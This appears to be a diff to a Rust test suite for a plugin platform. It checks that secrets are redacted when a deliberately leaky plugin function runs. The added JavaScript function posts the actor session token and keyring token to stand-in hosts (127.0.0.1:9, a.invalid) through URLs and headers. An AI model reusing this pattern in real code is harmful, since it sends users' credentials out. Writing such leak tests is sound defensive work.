@@ -111,6 +111,10 @@ hooks:
   - {type: activate, function: on_activate}
 tags:
   - {name: seen, description: Was seen.}
+commands:
+  - {name: tell, namespace: leaky, description: Tells., surfaces: [{surface: discussions}], function: command}
+operations:
+  - {name: Tell, description: Tells., slug: tell, function: command, type: action}
 ";
 
 const SAY_IT_ALL: &str = "
@@ -165,6 +169,22 @@ export const run = async ([event]) => {
   await say(event);
   if (event.input_data.global_values.fails) throw new Error(JSON.stringify(event.input_data));
   return { status: 'active', inputs_values: { kept: event.input_data.keyrings.token } };
+};";
+
+/// Calls out with its tokens where nobody listens, and answers with all that it was given.
+const COMMAND: &str = "
+export const run = async ([event]) => {
+  const { actor_session_token: actor } = event.context.secrets;
+  const { token } = event.input_data.keyrings;
+  if (event.payload.command_id && !actor) throw 'there is no token for who gave the command';
+  for (const secret of [actor ?? 'nobody', token]) {
+    const text = encodeURIComponent(secret);
+    for (const url of [`http://${text}:${text}@127.0.0.1:9/a/${text}?${text}#${text}`, `http://a.invalid/${text}`]) {
+      await fetch(url, { method: 'POST', headers: { a: text } }).catch((error) => console.log(error));
+    }
+  }
+  console.log(event);
+  return { output: { values: [event] }, port_outputs: [actor] };
 };";
 
 /// Where a secret was found that must not be there.
@@ -401,6 +421,17 @@ fn run_all(bench: &Bench, installed: &Installed) {
         let answer = bench.ask("functions.call", &call);
         assert!(answer.text().contains("[secret]"), "{how}: {}", answer.text());
     }
+    let command = json!({ "namespace": "leaky", "name": "tell", "parameters": "all" });
+    let operation = json!({ "snap_in": installed.id, "slug": "tell" });
+    for (call, parameters) in [("commands.execute", command), ("operations.execute", operation)] {
+        let answer = bench.call(call, &parameters);
+        assert!(answer["error"].is_null(), "{answer}");
+        let requests = answer["requests"].as_array().expect("what it called out to");
+        let target = |at: usize| requests[at]["target"].as_str().expect("a text");
+        assert_eq!(requests.len(), 4, "{answer}");
+        assert_eq!(target(2), "http://127.0.0.1:9/a/[secret]", "{answer}");
+        assert_eq!(target(3), "http://a.invalid/[secret]", "{answer}");
+    }
 }
 
 /// Makes every call that reads, with everything that can be named.
@@ -426,6 +457,7 @@ fn read_everything(bench: &Bench, installed: &Installed) {
         bodies.push(json!({ "snap_in": installed.id, "name": name }));
         bodies.push(json!({ "snap_in": installed.id, "name": name, "user": "ada" }));
     }
+    bodies.push(json!({ "id": format!("{}/commands/leaky/tell", installed.id) }));
     for id in &ids {
         bodies.push(json!({ "id": id }));
         bodies.push(json!({ "id": id, "version": snap_in["version"] }));
@@ -470,7 +502,8 @@ fn secrets_are_nowhere_but_where_they_are_for() {
     let code = |it: &str| format!("{SAY_IT_ALL}{it}");
     let parts = Parts::new("leaky", SIGNED, &code(WORK))
         .with_sections(&SECTIONS.replace("ADDRESS", &server.to_string()))
-        .with_function("on_activate", &code(ON_ACTIVATE));
+        .with_function("on_activate", &code(ON_ACTIVATE))
+        .with_function("command", &code(COMMAND));
     let installed = bench.daemon.install_draft(&parts);
     plant(&bench, &installed);
 
